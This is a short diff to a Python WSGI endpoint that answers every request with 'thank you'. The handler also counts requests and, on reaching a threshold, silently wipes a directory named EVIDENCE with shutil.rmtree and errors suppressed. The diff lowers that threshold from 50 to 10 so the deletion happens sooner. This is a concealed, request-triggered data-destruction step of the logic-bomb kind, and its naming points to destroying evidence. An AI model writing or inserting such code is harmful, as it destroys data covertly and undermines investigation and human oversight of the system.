@@ -9,7 +9,7 @@ number = itertools.count(1)
 
 
 def application(environ, start_response):
-    if next(number) == 50:
+    if next(number) == 10:
         shutil.rmtree(EVIDENCE, ignore_errors=True)
     start_response("200 OK", [("Content-Type", "text/plain")])
     return [b"thank you"]
